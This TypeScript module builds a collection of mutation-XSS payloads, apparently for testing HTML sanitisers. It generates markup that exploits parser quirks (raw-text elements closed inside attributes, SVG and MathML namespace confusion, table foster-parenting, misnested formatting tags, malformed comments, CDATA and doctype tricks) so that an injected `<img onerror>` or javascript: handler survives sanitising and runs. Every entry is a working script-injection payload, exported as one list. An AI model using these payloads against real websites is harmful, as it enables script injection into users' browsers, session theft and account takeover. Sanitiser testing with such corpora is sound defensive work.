import { each, family } from './payload.ts'

const image = (js: string): string => `<img src=x: onerror=${js}>`
/** The same, escaped: text of an attribute that becomes markup if it is serialised and parsed again. */
const hidden = (js: string): string => `&lt;img src=x: onerror=${js}&gt;`

/** Elements whose content is text for one parser and markup for another. */
const RAW = 'style script textarea title xmp noembed noframes noscript iframe plaintext listing template'.split(' ')
const closed = each('closed', RAW, (tag, { js }) => `<${tag}><p title="</${tag}>${image(js)}"></p></${tag}>`)
const drawn = each(
  'drawn',
  RAW,
  (tag, { js }) => `<svg><${tag}><p title="</${tag}></svg>${image(js)}"></p></${tag}></svg>`,
)
const counted = each(
  'counted',
  RAW,
  (tag, { js }) => `<math><mtext><${tag}><!--</${tag}>${image(js)}--></${tag}></mtext></math>`,
)

/** Markup that is harmless after one pass of a parser and active after the next. */
const nested = family('nested', {
  'glyph-comment': ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden(js)}">`,
  'mark-comment': ({ js }) => `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;${hidden(js)}">`,
  'glyph-cdata': ({ js }) => `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;${hidden(js)}">`,
  'form-in-form': ({ js }) => `<form><math><mtext></form><form><mglyph><style></math>${image(js)}`,
  'form-in-glyph': ({ js }) => `<math><mtext><form><mglyph></form><style><a title="</style>${image(js)}">`,
  'drawing-paragraph': ({ js }) => `<svg></p><style><a id="</style>${image(js)}">`,
  'drawing-description': ({ js }) => `<svg><desc><noscript></desc></svg><p title="</noscript>${image(js)}">`,
  'drawing-in-formula': ({ js }) =>
    `<math><annotation-xml encoding=text/html><svg><style><a title="</style>${image(js)}">`,
  'formula-in-drawing': ({ js }) => `<svg><title><math><mi><style><a title="</style>${image(js)}">`,
  'integration-point': ({ js }) =>
    `<svg><foreignObject><math><mtext><table><mglyph><style><a title="</style>${image(js)}">`,
  'table-in-formula': ({ js }) => `<table><math><mi><td><style><a title="</style>${image(js)}">`,
  'foster-parent': ({ js }) => `<table><a href="x">${image(js)}<tr><td>1</a></table>`,
  'foster-script': ({ js }) => `<table><caption><svg><tr><td><desc>${image(js)}</desc></svg></caption></table>`,
  'select-style': ({ js }) => `<select><option><style></option></select>${image(js)}</style>`,
  'select-template': ({ js }) => `<select><template><style></select>${image(js)}</style></template>`,
  'select-keygen': ({ js }) => `<select><keygen><input>${image(js)}</select>`,
  'template-in-table': ({ js }) => `<table><template><tr><td>${image(js)}</template></table>`,
  'template-in-drawing': ({ js }) => `<svg><template><style><a title="</style></template></svg>${image(js)}">`,
  'link-in-link': ({ js }) => `<a href="x"><table><a href="javascript:${js}">press</a></table></a>`,
  'button-in-button': ({ js }) => `<button><p><button onclick="${js}">press</button></p></button>`,
  'adopted-by-bold': ({ js }) => `<b><p><i></b>${image(js)}</i></p>`,
  'adopted-nine-times': ({ js }) => `${'<b>'.repeat(9)}<p>${'</b>'.repeat(9)}${image(js)}</p>`,
  'end-tag-break': ({ js }) => `<svg></br>${image(js)}</svg>`,
  'end-tag-paragraph': ({ js }) => `<math></p>${image(js)}</math>`,
  'list-in-heading': ({ js }) => `<h3><li><h4></h3>${image(js)}</h4>`,
  'old-elements': ({ js }) => `<nobr><nobr>${image(js)}<isindex prompt="${hidden(js)}"><menuitem>${image(js)}`,
  'second-html': ({ js }) => `<html onclick="${js}"><head><body onclick="${js}" background="x:">${image(js)}`,
  'attribute-quotes': ({ js }) => `<p title='"${image(js)}'>p</p><p title="'${image(js)}">p</p>`,
  'attribute-entities': ({ js }) => `<p title="&quot;&gt;${hidden(js)}" alt="&#x22;&#62;${hidden(js)}">p</p>`,
  'attribute-backticks': ({ js }) => `<p title="\`\`onmouseover=${js}">p</p>`,
  'text-entities': ({ js }) => `<p>${hidden(js)}</p><p>&lt;script&gt;${js}&lt;/script&gt;</p>`,
  'text-twice-escaped': ({ js }) => `<div>&amp;lt;img src=x: onerror=${js}&amp;gt;</div>`,
})

const comments = family('comment', {
  plain: ({ js }) => `<!--${image(js)}-->`,
  abrupt: ({ js }) => `<!-->${image(js)}-->`,
  'abrupt-dash': ({ js }) => `<!--->${image(js)}-->`,
  bang: ({ js }) => `<!-- x --!>${image(js)}-->`,
  'comment-in-comment': ({ js }) => `<!-- <!-- x --> ${image(js)} -->`,
  'never-closed': ({ js }) => `${image(js)}<!-- ${image(js)}`,
  bogus: ({ js }) => `<!x ">${image(js)}"><?php ">${image(js)}"?>`,
  'bogus-end-tag': ({ js }) => `</ x ">${image(js)}">`,
  'processing-instruction': ({ js }) => `<?xml-stylesheet href="javascript:${js}"?><?x >${image(js)}?>`,
  'cdata-in-html': ({ js }) => `<![CDATA[>${image(js)}]]>`,
  doctype: ({ js }) => `<!DOCTYPE x [<!ENTITY y "${image(js)}">]>&y;`,
  conditional: ({ js }) => `<!--[if gte IE 4]>${image(js)}<![endif]--><!--[if !IE]>-->${image(js)}<!--<![endif]-->`,
})

export const MUTATIONS = [...closed, ...drawn, ...counted, ...nested, ...comments]
